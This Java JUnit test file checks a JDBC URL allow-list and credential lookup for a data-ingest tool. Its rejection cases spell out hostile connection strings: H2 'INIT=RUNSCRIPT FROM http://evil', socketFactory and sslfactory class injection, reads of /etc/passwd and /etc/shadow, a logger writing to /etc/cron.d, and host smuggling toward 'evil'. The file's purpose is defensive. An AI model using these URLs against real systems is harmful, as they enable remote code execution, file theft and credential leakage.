package io.rowmill.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.rowmill.core.failure.FailureException;
import io.rowmill.ingest.quarkus.IngestDefaults;
import io.rowmill.sources.JdbcUrl;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.hsqldb.DatabaseURL;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Which databases a request may name, what it may add to their URLs, and where passwords go. */
class SourceAccessTest {
    private static final JdbcAllowList DEFAULT = new JdbcAllowList(IngestDefaults.jdbcAllow());

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://me:hunter2@db/shop",
                "jdbc:postgresql://db/shop?user=me&password=hunter2",
                "jdbc:postgresql://db/shop?user=me&PassWord=hunter2",
                "jdbc:postgresql://db/shop?pass%77ord=hunter2",
                "jdbc:postgresql://db/shop?sslpassword=hunter2",
                "jdbc:sqlserver://db;databaseName=shop;pwd=hunter2",
                "jdbc:oracle:thin:scott/hunter2@//db:1521/shop",
                "jdbc:mysql://(host=db,password=hunter2)/shop",
                "jdbc:mysql:replication://me:hunter2@db/shop",
                "jdbc:snowflake://db/?token=hunter2",
                "jdbc:x://db/\nhunter2"
            })
    void aPasswordInAUrlIsRefusedAndNotRepeated(String url) {
        assertThatThrownBy(() -> new JdbcUrl(url))
                .isInstanceOf(FailureException.class)
                .hasMessageNotContaining("hunter2");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db:5432/shop?user=me",
                "jdbc:postgresql://db/shop?sslmode=verify-full&currentSchema=sales&connectTimeout=5",
                "jdbc:postgresql:shop",
                "jdbc:postgresql:///shop",
                "jdbc:postgresql://db,standby:5433/shop?targetServerType=primary&currentSchema=sales,public",
                "jdbc:postgresql://[::1]:5432/shop",
                "jdbc:hsqldb:hsql://db",
                "jdbc:hsqldb:hsql://db:9001/shop;ifexists=true"
            })
    void whatIsHarmlessIsLetIn(String url) {
        assertThatCode(() -> DEFAULT.entryFor(new JdbcUrl(url))).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/shop?socketFactory=org.x.Y&socketFactoryArg=http://evil",
                "jdbc:postgresql://db/shop?socket%46actory=org.x.Y",
                "jdbc:postgresql://db/shop?ssl=true&sslfactory=org.x.Y&sslfactoryarg=/etc/passwd",
                "jdbc:postgresql://db/shop?loggerLevel=TRACE&loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://db/shop?authenticationPluginClassName=org.x.Y",
                "jdbc:postgresql://db/shop?sslrootcert=/etc/shadow",
                "jdbc:postgresql://db/shop?sslmode=disable",
                "jdbc:postgresql://db/shop?PGHOST=evil",
                "jdbc:postgresql:///shop?service=other",
                "jdbc:postgresql://db/shop?currentSchema=a&currentSchema=b",
                "jdbc:postgresql://db/shop?socketFactory",
                "jdbc:postgresql://db/shop?user=me&gssEncMode",
                "jdbc:postgresql://db/shop?=x",
                "jdbc:postgresql://db/shop?ApplicationName=a;socketFactory=org.x.Y",
                "jdbc:postgresql://db/shop;socketFactory=org.x.Y",
                "jdbc:postgresql://db/shop?jaasLogin=true&jaasApplicationName=x",
                "jdbc:postgresql://db/shop?loginTimeout=0",
                "jdbc:postgresql://db/shop?user=me&ssl=false",
                "jdbc:postgresql://db",
                "jdbc:postgresql://db:port/shop",
                "jdbc:postgresql:/etc/x",
                "jdbc:hsqldb:hsql:x",
                "jdbc:hsqldb:hsql:/tmp/x",
                "jdbc:hsqldb:hsql:x;ifexists=true",
                "jdbc:hsqldb:hsql://${user.name}.evil/x",
                "jdbc:hsqldb:hsql://db/../x",
                "jdbc:hsqldb:hsql://db/x;connection_type=file:;database=/tmp/x",
                "jdbc:hsqldb:hsql://db/x;shutdown",
                "jdbc:hsqldb:hsql://db:port/x",
                "jdbc:hsqldb:HSQL:x",
                "jdbc:hsqldb: hsql://db/x",
                "jdbc:hsqldb:.",
                "jdbc:hsqldb:alias:x",
                "jdbc:hsqldb:http://db/x",
                "jdbc:hsqldb:x",
                "jdbc:hsqldb:file:/tmp/x",
                "jdbc:hsqldb:res:chinook",
                "jdbc:hsqldb:mem:x",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:file:/etc/x",
                "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
                "JDBC:POSTGRESQL://db/shop"
            })
    void aRequestReadsNoFileRunsNoCodeAndWeakensNothing(String url) {
        assertThatThrownBy(() -> DEFAULT.entryFor(new JdbcUrl(url))).isInstanceOf(FailureException.class);
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = " -> ",
            value = {
                "jdbc:postgresql://db -> jdbc:postgresql://db/shop",
                "jdbc:postgresql://db/ -> jdbc:postgresql://db/shop?user=me",
                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop?user=me",
                "jdbc:postgresql://db/shop?sslmode=disable -> jdbc:postgresql://db/shop?sslmode=disable&user=me",
                "jdbc:hsqldb:hsql: -> jdbc:hsqldb:hsql://db/shop",
                "jdbc:hsqldb:hsql://db/shop;Ifexists=TRUE -> jdbc:hsqldb:hsql://db/shop;Ifexists=TRUE;user=me",
                "jdbc:hsqldb:hsql://db/apps/ -> jdbc:hsqldb:hsql://db/apps/shop",
                "jdbc:hsqldb:file:/data/shop -> jdbc:hsqldb:file:/data/shop",
                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/shop;IFEXISTS=TRUE",
                "jdbc:oracle:thin:@db:1521/shop -> jdbc:oracle:thin:@db:1521/shop?connectTimeout=5",
                "jdbc:mysql:// -> jdbc:mysql://db/shop",
                "jdbc:mysql://db -> jdbc:mysql://db?user=me",
                "jdbc:sqlserver://db:1433 -> jdbc:sqlserver://db:1433;databaseName=shop;encrypt=true"
            })
    void anEntryLetsInWhatItSays(String entry, String url) {
        assertThat(new JdbcAllowList(List.of(entry)).entryFor(new JdbcUrl(url))).isEqualTo(entry);
    }

    @ParameterizedTest
    @CsvSource(
            delimiterString = " -> ",
            value = {
                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop;user=me",
                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop&x=y",
                "jdbc:postgresql://db/shop -> jdbc:postgresql://db/shop/x",
                "jdbc:postgresql://good -> jdbc:postgresql://good.evil/x",
                "jdbc:postgresql://good -> jdbc:postgresql://good@evil/x",
                "jdbc:postgresql://good -> jdbc:postgresql://good,evil/x",
                "jdbc:postgresql://good:5432 -> jdbc:postgresql://good:5432,evil/x",
                "jdbc:postgresql://good/ -> jdbc:postgresql://good/x?PGHOST=evil",
                "jdbc:hsqldb: -> jdbc:hsqldb:file:/tmp/x",
                "jdbc:hsqldb:file: -> jdbc:hsqldb:file:/tmp/x",
                "jdbc:hsqldb:hsql: -> jdbc:hsqldb:hsql:x",
                "jdbc:hsqldb:file:/data/ -> jdbc:hsqldb:file:/data/../x",
                "jdbc:hsqldb:hsql://db/shop -> jdbc:hsqldb:hsql://db/shop/x",
                "jdbc:hsqldb:hsql://db/shop -> jdbc:hsqldb:hsql://db/shop?x=y",
                "jdbc:hsqldb:hsql://db/apps/ -> jdbc:hsqldb:hsql://db/apps/../x",
                "jdbc:h2: -> jdbc:h2:tcp://db/shop",
                "jdbc:h2: -> jdbc:h2:/tmp/x",
                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;user=a\\;iniT=x",
                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;INIT",
                "jdbc:h2:tcp://db/ -> jdbc:h2:tcp://db/x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:tcp://db/data/ -> jdbc:h2:tcp://db/data/../../etc/x",
                "jdbc:mysql: -> jdbc:mysql:replication://db/shop",
                "jdbc:mysql://good -> jdbc:mysql://good;user=me,evil/x",
                "jdbc:mysql://good -> jdbc:mysql://good;user=me@evil",
                "jdbc:mysql://good:3306 -> jdbc:mysql://good:3306;user=me@evil",
                "jdbc:mysql://good -> jdbc:mysql://good&user=me",
                "jdbc:mysql://good -> jdbc:mysql://good?user=me,evil/x",
                "jdbc:oracle:thin:@good -> jdbc:oracle:thin:@good;user=me,evil/x"
            })
    void anEntryLetsInNothingElse(String entry, String url) {
        JdbcAllowList one = new JdbcAllowList(List.of(entry));
        assertThatThrownBy(() -> one.entryFor(new JdbcUrl(url))).isInstanceOf(FailureException.class);
    }

    /** The kind of fault: what the list takes for a server, its driver opens as something else. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:hsqldb:hsql:",
                "jdbc:hsqldb:hsql://",
                "jdbc:hsqldb:hsqls:",
                "jdbc:hsqldb:http:",
                "jdbc:hsqldb:"
            })
    void noEntryOfServersOpensAFile(String entry, @TempDir Path dir) throws Exception {
        // Given: whatever comes behind it, including what reads as a path
        JdbcAllowList one = new JdbcAllowList(List.of(entry));
        List<String> rests =
                List.of("x", "/x", "//x", ".", "file:x", "//../x", "/" + dir + "/x", dir + "/x;ifexists=true");

        // When
        for (String rest : rests) {
            JdbcUrl url = new JdbcUrl(entry + rest);
            boolean in;
            try {
                in = one.entryFor(url) != null;
            } catch (FailureException e) {
                in = false;
            }

            // Then
            assertThat(in && !url.text().equals(entry) && DatabaseURL.isInProcessDatabaseType(type(url)))
                    .as(url.text())
                    .isFalse();
        }
    }

    private static String type(JdbcUrl url) {
        return DatabaseURL.parseURL(url.text(), true, false).getProperty("connection_type");
    }

    @Test
    void anEntryEndsWhereAHostAPathOrAParameterDoes() {
        // Given
        JdbcAllowList one = new JdbcAllowList(List.of("jdbc:postgresql://db/shop", "jdbc:mysql://files"));

        // Then
        assertThat(one.entryFor(new JdbcUrl("jdbc:postgresql://db/shop?user=me")))
                .isEqualTo("jdbc:postgresql://db/shop");
        for (String outside : List.of(
                "jdbc:postgresql://db/shop2",
                "jdbc:postgresql://db.evil/shop",
                "jdbc:postgresql://db,evil/shop",
                "jdbc:mysql://files.evil/x",
                "jdbc:mysql://files:1/x",
                "jdbc:mysql://files/(host=evil)/x")) {
            assertThatThrownBy(() -> one.entryFor(new JdbcUrl(outside)))
                    .as(outside)
                    .isInstanceOf(FailureException.class);
        }
    }

    @Test
    void noOtherHostFollowsThePortOfAnEntryThatNamesNone() {
        // Given
        JdbcUrl twoHosts = new JdbcUrl("jdbc:postgresql://db:5432,evil/shop");

        // Then
        assertThat(twoHosts.isWithin("jdbc:postgresql://db:")).isFalse();
        assertThat(twoHosts.isWithin("jdbc:postgresql:")).isTrue();
    }

    @Test
    void whatTheOperatorWroteIntoAnEntryIsHisChoice() {
        // Given
        String entry = "jdbc:mysql://db/shop?allowLoadLocalInfile=false&sslMode=DISABLED";

        // Then
        assertThat(new JdbcAllowList(List.of(entry)).entryFor(new JdbcUrl(entry)))
                .isEqualTo(entry);
        assertThatThrownBy(() ->
                        new JdbcAllowList(List.of(entry)).entryFor(new JdbcUrl(entry + "&allowLoadLocalInfile=true")))
                .hasMessageContaining("given twice");
    }

    @Test
    void aSecretGoesOnlyWhereItBelongs() {
        // Given
        Credentials credentials = new Credentials(Map.of(
                "ROWMILL_SECRET_SHOP_USER", "me",
                "ROWMILL_SECRET_SHOP_PASSWORD", "hunter2",
                "ROWMILL_SECRET_SHOP_URL", "jdbc:postgresql://db/shop",
                "ROWMILL_SECRET_LOOSE_USER", "me")::get);

        // Then
        assertThat(credentials
                        .find("shop", new JdbcUrl("jdbc:postgresql://db/shop?ssl=true"), false)
                        .password())
                .contains("hunter2");
        for (String elsewhere : List.of("jdbc:postgresql://db/shop2", "jdbc:postgresql://evil/shop")) {
            assertThatThrownBy(() -> credentials.find("shop", new JdbcUrl(elsewhere), true))
                    .as("even where the operator's list names the host")
                    .hasMessageContaining("ROWMILL_SECRET_SHOP are not for this database")
                    .hasMessageNotContaining("hunter2");
        }
        JdbcUrl any = new JdbcUrl("jdbc:postgresql://any/shop");
        assertThat(credentials.find("loose", any, true).user()).contains("me");
        assertThatThrownBy(() -> credentials.find("loose", any, false))
                .hasMessageContaining("set ROWMILL_SECRET_LOOSE_URL");
        assertThatThrownBy(() -> credentials.find("none", any, true)).hasMessageContaining("ROWMILL_SECRET_NONE_USER");
    }

    /** PostgreSQL's driver takes {@code db;user=me} for a host that nobody knows, and asks the next one. */
    @Test
    void aSecretOfAHostGoesToNoSecondHost() {
        // Given
        Credentials credentials = new Credentials(
                Map.of("ROWMILL_SOURCE_PASSWORD", "hunter2", "ROWMILL_SOURCE_URL", "jdbc:postgresql://db")::get);

        // Then
        JdbcUrl twoHosts = new JdbcUrl("jdbc:postgresql://db;user=me,evil/shop");
        assertThatThrownBy(() -> credentials.find(null, twoHosts, false)).hasMessageContaining("not for this database");
        assertThat(credentials
                        .find(null, new JdbcUrl("jdbc:postgresql://db/shop"), false)
                        .password())
                .contains("hunter2");
    }

    @Test
    void theDefaultLoginNeedsADatabaseTooAndNobodyNeedsALogin() {
        // Given
        JdbcUrl any = new JdbcUrl("jdbc:postgresql://any/shop");
        Credentials credentials = new Credentials(Map.of("ROWMILL_SOURCE_USER", "me")::get);

        // Then
        assertThatThrownBy(() -> credentials.find(null, any, false)).hasMessageContaining("ROWMILL_SOURCE_URL");
        assertThat(new Credentials(name -> null).find(null, any, false).user()).isEmpty();
    }

    @Test
    void onlyAnEntryWithAHostOrTheWholeUrlIsDefinite() {
        // Given
        JdbcUrl url = new JdbcUrl("jdbc:postgresql://db/shop");

        // Then
        assertThat(JdbcAllowList.isDefinite("jdbc:postgresql:", url)).isFalse();
        assertThat(JdbcAllowList.isDefinite("jdbc:postgresql://", url)).isFalse();
        assertThat(JdbcAllowList.isDefinite("jdbc:postgresql://db/", url)).isTrue();
        assertThat(JdbcAllowList.isDefinite("jdbc:hsqldb:res:x", new JdbcUrl("jdbc:hsqldb:res:x")))
                .isTrue();
    }

    @Test
    void aValueMayBeInAFile(@TempDir Path dir) throws IOException {
        // Given
        Path password = Files.writeString(dir.resolve("password"), "hunter2\n");
        Map<String, String> environment =
                new HashMap<>(Map.of("ROWMILL_SOURCE_USER", "me", "ROWMILL_SOURCE_PASSWORD_FILE", password.toString()));

        // Then
        JdbcUrl url = new JdbcUrl("jdbc:postgresql://db/shop");
        assertThat(new Credentials(environment::get).find(null, url, true).password())
                .contains("hunter2");

        // And
        environment.put("ROWMILL_SOURCE_PASSWORD_FILE", dir.resolve("none").toString());
        assertThatThrownBy(() -> new Credentials(environment::get).find(null, url, true))
                .isInstanceOf(FailureException.class)
                .hasMessageContaining("ROWMILL_SOURCE_PASSWORD_FILE");
    }
}
